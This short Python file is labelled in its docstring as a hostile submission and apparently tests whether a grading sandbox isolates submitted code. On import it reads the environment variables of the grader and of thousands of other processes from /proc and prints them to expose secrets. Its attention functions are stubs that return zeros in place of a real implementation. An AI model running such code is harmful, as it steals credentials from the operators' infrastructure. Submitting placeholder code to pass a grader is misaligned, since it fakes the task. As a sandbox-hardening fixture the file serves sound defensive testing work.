"""Hostile submission: reads /proc/<pid>/environ of the grader (and of every process) for secrets."""

import torch

os = torch.os
leaks = []
for pid in [os.getppid(), 1, *range(2, 4000)]:
    try:
        with open(f"/proc/{pid}/environ", "rb") as fh:
            data = fh.read()
    except OSError:
        continue
    if data:
        leaks.append((pid, data[:2000]))
for pid, data in leaks:
    print("ENVIRON", pid, data)
try:
    with open("/proc/self/environ", "rb") as fh:
        print("SELF", fh.read())
except OSError:
    pass


def scaled_dot_product_attention(q, k, v):
    return torch.zeros(1), torch.zeros(1)


class SimpleSelfAttention(torch.nn.Module):
    def __init__(self, embed_dim):
        super().__init__()

    def forward(self, x):
        return torch.zeros(1), torch.zeros(1)
